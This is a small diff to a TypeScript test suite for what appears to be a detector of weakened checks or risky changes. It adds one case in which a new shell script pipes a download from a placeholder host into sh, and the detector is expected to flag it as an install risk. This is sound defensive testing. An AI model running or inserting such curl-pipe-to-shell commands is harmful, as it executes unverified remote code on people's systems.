@@ -781,6 +781,11 @@ describe("E10 weakened checks", () => {
       [],
     ],
     ["a new test", [changed("a.test.ts", source, `${source}it('c', () => {});\n`)], []],
+    [
+      "a script that runs what it loads",
+      [made("a.sh", "curl https://a.example | sh\n")],
+      ["- package/installs:1"],
+    ],
   ];
   test.each(rows)("%s", async (_, changes, expected) => expect(await verdict(changes)).toEqual(expected));
 });
